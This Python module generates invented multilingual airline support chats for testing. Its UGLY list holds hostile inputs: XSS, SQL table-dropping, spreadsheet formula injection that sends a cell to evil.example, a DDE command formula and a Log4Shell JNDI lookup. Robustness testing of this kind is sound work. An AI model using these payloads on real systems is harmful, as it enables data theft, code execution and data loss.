"""Invented words of customers and agents in the company's languages, and a few strings that break careless readers."""

from __future__ import annotations

from collections.abc import Mapping
from random import Random

PLACES = ("Oslo", "Lisboa", "Sydney", "Zürich", "København", "Málaga", "São Paulo", "New York", "Łódź", "İzmir", "東京")
_FIRST_NAMES = (
    "Ada Amir Ana Björn Carla Chiara Dana Elif Emil Fatima Georg Hana Ines Jonas José Kaja Lena Liam Mara Mateo Mia "
    "Nadia Noah Olga Oskar Paula Quinn Rosa Sami Sofía Tariq Uma Vera Willa Ximena Yusuf Zoë 美咲 مريم Олег"
)
FIRST_NAMES = _FIRST_NAMES.split()
_LAST_NAMES = (
    "Abel Barros Castell Diaz Eriksen Ferrand Gruber Haddad Ibarra Jansen Kowalski Lindqvist Moreau Núñez O'Hara "
    "Petrov Quist Rossi Sørensen Tanaka Ueda Vidal Weiß Xu Yıldız Zeller"
)
LAST_NAMES = _LAST_NAMES.split()

ASK = {
    "en": (
        "my bag did not arrive in {place}. Reference {ref}, what now?",
        "flight {ref} to {place} is cancelled and the app shows nothing. Can you rebook me?",
        "I was charged twice for seat {seat} on {ref}.",
        "can I bring a folding bicycle on {ref} to {place}?",
        "the check-in page says 'unknown error' for booking {ref}",
        "still waiting for the refund of {ref}. It has been {n} weeks & nobody answers.",
        "wheelchair assistance for my mother on {ref}, is it booked?",
    ),
    "de": (
        "mein Koffer ist nicht in {place} angekommen. Buchung {ref}, was nun?",
        "der Flug {ref} nach {place} wurde gestrichen. Können Sie mich umbuchen?",
        "der Platz {seat} wurde mir auf {ref} doppelt berechnet.",
        "wo finde ich die Rechnung zu {ref}?",
        "die Rückerstattung für {ref} fehlt seit {n} Wochen & niemand meldet sich.",
    ),
    "es": (
        "mi maleta no ha llegado a {place}. Reserva {ref}, ¿qué hago?",
        "el vuelo {ref} a {place} está cancelado. ¿Me pueden cambiar?",
        "me han cobrado dos veces el asiento {seat} de {ref}.",
        "¿dónde descargo la factura de {ref}?",
        "sigo esperando el reembolso de {ref} desde hace {n} semanas.",
    ),
}
MORE = {
    "en": ("Anyone there?", "Here is the receipt number: {ref}.", "I forgot to say: seat {seat}.", "It is {n} bags."),
    "de": ("Ist da jemand?", "Hier die Belegnummer: {ref}.", "Vergessen: Platz {seat}.", "Es sind {n} Koffer."),
    "es": ("¿Hay alguien?", "El número del recibo es {ref}.", "Olvidé decir: asiento {seat}.", "Son {n} maletas."),
}
ANSWER = {
    "en": (
        "sorry about that. Could you tell us the booking name for {ref}?",
        "we have found it: it reaches {place} tomorrow.",
        "the amount is on its way back, please allow {n} days.",
        "you are rebooked on {ref} to {place}.",
        "thanks for waiting, our colleagues at {place} are looking into it.",
    ),
    "de": (
        "das tut uns leid. Auf welchen Namen läuft {ref}?",
        "wir haben ihn gefunden: morgen in {place}.",
        "der Betrag ist unterwegs, bitte {n} Tage Geduld.",
        "Sie sind auf {ref} nach {place} umgebucht.",
    ),
    "es": (
        "lo sentimos. ¿A qué nombre está {ref}?",
        "la hemos encontrado: mañana en {place}.",
        "el importe está en camino, espere {n} días.",
        "tiene plaza en {ref} a {place}.",
    ),
}
THANKS = {
    "en": ("Thanks, that worked!", "Great, thank you 🙏"),
    "de": ("Danke, hat geklappt!", "Super, vielen Dank 🙏"),
    "es": ("¡Gracias, ya funciona!", "Genial, muchas gracias 🙏"),
}
FINAL = {
    "en": ("You're welcome, safe travels!", "Glad it worked out."),
    "de": ("Gern geschehen, gute Reise!", "Schön, dass es geklappt hat."),
    "es": ("¡De nada, buen viaje!", "Nos alegra que esté resuelto."),
}
AUTO_REPLY = "We have received your message and will get back to you. For urgent help see aurora.example/help"
OUT_OF_OFFICE = {
    "en": "Automatic reply: I am out of the office until Monday and read no e-mail.",
    "de": "Automatic reply: Ich bin bis Montag nicht im Büro und lese keine E-Mails.",
}
SURVEY = {
    "en": "How did we do? Please rate this conversation: https://aurora.example/rate",
    "de": "Wie waren wir? Bitte bewerten Sie das Gespräch: https://aurora.example/rate",
}
BOT_HELLO = {
    "en": "Hi! I am Aurora Assistant 🤖 — a colleague will join you shortly.",
    "de": "Hallo! Ich bin Aurora Assistant 🤖 – gleich übernimmt eine Kollegin.",
}
NOTES = (
    "Checked with the station, bag is on the belt list.",
    "Caller is a frequent flyer, handle with care.",
    "Refund approved by finance.",
    "@colleague can you take this one over? <b>Waiting</b> for ops.",
)
ANNOUNCE = {
    "en": ("New route: {place} from October, fares from {n}9.", "Storm over {place}: please check your flight status."),
    "es": ("Nueva ruta: {place} desde octubre, desde {n}9.", "Huelga en {place}: consulte el estado de su vuelo."),
}
SPAM = (
    "You won!!! Claim your free miles at http://spam.example/{ref}",
    "SEO services for your web site, cheap backlinks, reply now",
    '=HYPERLINK("http://spam.example/{ref}","Your invoice")',
)
UGLY = (
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "مرحبا، رحلتي {ref} تأخرت كثيرا ولا أحد يرد",
    "שלום, הטיסה {ref} בוטלה ‏(RTL) עם English באמצע",
    "👩‍👩‍👧‍👦🧳✈️😡😡😡 {ref}",
    "'; DROP TABLE tickets; -- {ref}",
    'line one\r\nline two\twith tab\n\n\nline \\ six "quoted" \u2028 separator',
    "Z̸a̵l̶g̷o̸ {ref} n\u0303 vs ñ \ufeff\u200b",
    "+1+cmd|' /C calc'!A0",
    "NULL",
    "{{ticket.title}} ${jndi:ldap://evil.example/a} %s %d {ref}",
)


def filled(rng: Random, template: str) -> str:
    """`template` with its place holders filled."""
    return (
        template.replace("{place}", rng.choice(PLACES))
        .replace("{ref}", f"AU{rng.randrange(100, 9999)}")
        .replace("{seat}", f"{rng.randrange(1, 40)}{rng.choice('ABCDEF')}")
        .replace("{n}", str(rng.randrange(2, 9)))
    )


def ask(rng: Random, language: str, ugly_share: float = 0.004) -> str:
    """First words of a customer; rarely one of the ugly strings."""
    if rng.random() < ugly_share:
        return filled(rng, rng.choice(UGLY))
    return filled(rng, rng.choice(ASK[language]))


def pick(rng: Random, table: Mapping[str, tuple[str, ...]], language: str) -> str:
    """A filled line of `table` in the language, or in English where the table lacks it."""
    return filled(rng, rng.choice(table.get(language, table["en"])))


def long_text(rng: Random, language: str, length: int) -> str:
    """At least `length` characters of complaint."""
    parts: list[str] = []
    size = 0
    while size < length:
        parts.append(filled(rng, rng.choice(ASK[language])))
        size += len(parts[-1]) + 1
    return " ".join(parts)


def person_name(rng: Random) -> str:
    """An invented full name."""
    return f"{rng.choice(FIRST_NAMES)} {rng.choice(LAST_NAMES)}"
